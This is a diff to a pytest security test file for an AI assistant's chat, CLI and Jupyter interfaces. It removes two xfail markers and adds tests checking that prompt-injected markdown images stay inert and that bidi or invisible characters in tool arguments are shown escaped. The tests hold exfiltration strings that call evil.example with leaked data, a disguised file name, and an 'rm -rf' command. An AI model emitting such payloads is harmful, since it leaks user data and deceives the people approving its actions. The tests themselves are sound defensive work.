@@ -723,7 +723,6 @@ def test_attack_an_mcp_schema_with_a_remote_ref_makes_the_workstation_fetch_noth
 _EXFIL = "Done. ![status](https://evil.example/pixel.png?d=the-grant-deadline-is-May-12)"
 
 
-@pytest.mark.xfail(strict=True, reason="ui/chat.py: see /tmp/req_attacker.md (markdown images auto-load)")
 def test_attack_an_injected_answer_with_a_markdown_image_makes_the_notebook_fetch_nothing() -> None:
     """A prompt-injected model (or a memory quoted by an offline answer) writes a markdown image whose
     URL carries what it read: rendered as <img>, the browser fetches it on its own — no click."""
@@ -732,7 +731,6 @@ def test_attack_an_injected_answer_with_a_markdown_image_makes_the_notebook_fetc
     assert "<img" not in markdown_html(_EXFIL)
 
 
-@pytest.mark.xfail(strict=True, reason="jupyter_persona.py: see /tmp/req_attacker.md (markdown images auto-load)")
 def test_attack_an_injected_answer_or_memory_with_an_image_is_not_sent_as_markdown_to_the_jupyter_chat() -> None:
     from emergent.assistant import RunEvent, Source
     from emergent.assistant.engine import RunResult
@@ -837,3 +835,26 @@ def test_attack_terminal_escape_sequences_from_the_model_results_or_memories_nev
     assert "4096" in r.answer and len(RAN) == 1 and RAN[0].endswith(hide + "ok")  # the tool got its arguments as given
     for bad in ("\x1b", "\r", "\x07", "\x9b"):
         assert bad not in shown, repr(bad)
+
+
+def test_attack_an_image_split_across_streamed_tokens_is_still_inert() -> None:
+    from emergent.assistant import RunEvent
+    from emergent.assistant.jupyter_persona import RunView
+
+    view = RunView()
+    out = "".join(view.event(RunEvent("token", "run-1", {"text": t}))
+                  for t in ["Done!", "[x](https://evil.example/p.png?d=secret)", " ok!"])
+    assert "![" not in out and out.count("!") == 1  # the trailing "!" is held until the result
+
+
+def test_attack_bidi_and_invisible_characters_in_arguments_are_shown_escaped_on_every_surface() -> None:
+    """A model asks to write 'invoice\\u202etxt.exe': shown raw, the person approving reads 'invoiceexe.txt'."""
+    from emergent.assistant.jupyter_persona import _args as persona_args
+    from emergent.cli.chat import _args as cli_args
+    from emergent.ui.chat import args_text
+
+    args = {"path": "invoice\u202etxt.exe", "cmd": "rm\u200b -rf"}
+    for render in (args_text, cli_args, persona_args):
+        shown = render(args)
+        assert "\u202e" not in shown and "\u200b" not in shown
+        assert "\\u202e" in shown and "\\u200b" in shown
